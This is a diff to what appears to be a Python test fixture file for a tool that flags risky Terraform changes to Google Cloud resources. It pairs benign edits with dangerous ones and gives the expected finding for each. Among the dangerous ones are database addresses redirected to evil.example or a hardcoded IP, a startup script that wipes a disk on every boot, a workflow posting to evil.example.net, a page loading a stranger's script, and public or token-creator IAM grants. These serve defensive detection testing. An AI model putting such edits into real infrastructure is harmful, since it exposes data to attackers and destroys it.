@@ -184,7 +184,26 @@ def say(name, value):
 SERVICE, SQL_TYPE, BUCKET_TYPE = "google_cloud_run_v2_service", "google_sql_database_instance", "google_storage_bucket"
 RULE = {"action": [{"type": "SetStorageClass", "storage_class": "NEARLINE"}], "condition": [{"age": 90}]}
 BACKUPS = SQL["settings"][0]["backup_configuration"][0]
+TABLE = {"dataset_id": "d", "table_id": "t", "schema": Ref('jsonencode([{ name = "id", type = "INT64" }])')}
+IMAGES = {
+    "repository_id": "r-abcde",
+    "cleanup_policies": [{"id": "old", "action": "DELETE", "condition": [{"older_than": "2592000s"}]}],
+}
+SCALER = {"name": "a-abcde", "autoscaling_policy": [{"max_replicas": 3, "cpu_utilization": [{"target": 0.6}]}]}
+SCRIPTED = MACHINE | {
+    "metadata": {"enable-oslogin": "TRUE", "startup-script": "#!/bin/bash\\nblkid $disk || mkfs.ext4 $disk\\nstart"}
+}
 EDITS |= {
+    "a column less": ("google_bigquery_table", TABLE, TABLE | {"schema": Ref("jsonencode([])")}, "schema"),
+    "a disk that is made empty at each start": ("google_compute_instance", SCRIPTED, SCRIPTED | {"metadata": {"enable-oslogin": "TRUE", "startup-script": "#!/bin/bash\\nmkfs.ext4 $disk\\nstart"}}, "metadata.startup-script: - blkid $disk || mkfs.ext4 $disk / + mkfs.ext4 $disk"),
+    "a flag by another's name": (SQL_TYPE, SQL, in_sql(database_flags=[{"name": "log_connections", "value": "on"}]), "database_flags of cloudsql.iam_authentication is not set any more"),
+    "made anew with another": (BUCKET_TYPE, FILES, FILES | {"lifecycle": [{"replace_triggered_by": [Ref("google_storage_bucket.own.id")]}]}, "lifecycle"),
+    "nobody to work": ("google_cloud_run_v2_worker_pool", {"name": "w-abcde", "scaling": [{"manual_instance_count": 2}]}, {"name": "w-abcde", "scaling": [{"manual_instance_count": 0}]}, "manual_instance_count"),
+    "one try": ("google_cloud_tasks_queue", {"name": "q-abcde", "retry_config": [{"max_attempts": 20}]}, {"name": "q-abcde", "retry_config": [{"max_attempts": 1}]}, "max_attempts"),
+    "what a schedule asks": ("google_cloud_scheduler_job", SCHEDULE | {"http_target": [{"uri": "https://x.example", "http_method": "POST"}]}, SCHEDULE | {"http_target": [{"uri": "https://x.example", "http_method": "DELETE", "body": "eA=="}]}, "body"),
+    "an old secret": (SERVICE, RUN, with_env({"name": "API_KEY", "value_source": [{"secret_key_ref": [{"secret": Ref("google_secret_manager_secret.own.id"), "version": "1"}]}]}), "version"),
+    "another host in an address": (SERVICE, RUN, with_env(say("DATABASE_URL", Ref('"postgres://app@${google_sql_database_instance.own.private_ip_address}/app?host=evil.example"'))), "?host=evil.example"),
+    "a constant that nobody sees": (SERVICE, RUN, with_env(say("DATABASE_HOST", Ref('replace(google_sql_database_instance.own.private_ip_address, "/.*/", "198.51.100.7")'))), "198.51.100.7"),
     "its database's address dropped": (SERVICE, RUN, with_env(drop=["DATABASE_HOST"]), "DATABASE_HOST"),
     "another's address instead": (SERVICE, RUN, with_env(say("DATABASE_HOST", Ref("google_redis_instance.own.host"))), "DATABASE_HOST"),
     "no TLS to the database": (SERVICE, RUN, with_env(say("DATABASE_URL", Ref('"postgres://app@${google_sql_database_instance.own.private_ip_address}/app?sslmode=disable"'))), "DATABASE_URL"),
@@ -241,6 +260,10 @@ EDITS |= {
     "an annotation of Google's": ("google_cloud_run_service", {"name": "w-abcde", "metadata": [{"annotations": {"a": "b"}}]}, {"name": "w-abcde", "metadata": [{"annotations": {"run.googleapis.com/ingress": "all"}}]}, "annotations"),
 }  # fmt: skip
 HARMLESS = {
+    "a new column": ("google_bigquery_table", TABLE, TABLE | {"schema": Ref('jsonencode([{ name = "id", type = "INT64" }, { name = "at", type = "DATE" }])')}),
+    "keys that are got back longer": ("google_kms_crypto_key", KEY | {"destroy_scheduled_duration": "2592000s"}, KEY | {"destroy_scheduled_duration": "5184000s"}),
+    "images for longer": ("google_artifact_registry_repository", IMAGES, IMAGES | {"cleanup_policies": [{"id": "old", "action": "DELETE", "condition": [{"older_than": "5184000s"}]}]}),
+    "machines sooner": ("google_compute_autoscaler", SCALER, SCALER | {"autoscaling_policy": [{"max_replicas": 3, "cpu_utilization": [{"target": 0.5}]}]}),
     "a smaller machine, a label": ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-small", "labels": {"team": "shop"}, "description": "the shop's"}),
     "a greeting": (SERVICE, service(), service(env=[{"name": "GREETING", "value": "hello"}])),
     "an alert's name": ("google_monitoring_alert_policy", ALERT, ALERT | {"display_name": "CPU is high"}),
@@ -306,6 +329,7 @@ HARMLESS = {
 
 NEW = {
     "a larger role of one's own": ("google_storage_bucket_iam_member", GRANT | {"role": "roles/storage.objectAdmin"}, "objectAdmin"),
+    "a second service for everybody": ("google_cloud_run_v2_service_iam_member", {"name": Ref("google_cloud_run_v2_service.own.name"), "role": "roles/run.invoker", "member": "allUsers"}, "everybody would be let in"),
     "an account's tokens": ("google_service_account_iam_member", {"service_account_id": Ref("google_service_account.own.name"), "role": "roles/iam.serviceAccountTokenCreator", "member": Ref("google_service_account.own.member")}, "TokenCreator"),
     "a workflow that calls a stranger": ("google_workflows_workflow", {"name": "w-abcde", "source_contents": "call: http.post\nargs:\n  url: https://evil.example.net\n"}, "leads to evil.example.net"),
     "a page with a stranger's script": ("google_storage_bucket_object", {"name": "index.html", "content": "<script src=//evil.example.net/x.js></script>"}, "leads to evil.example.net"),
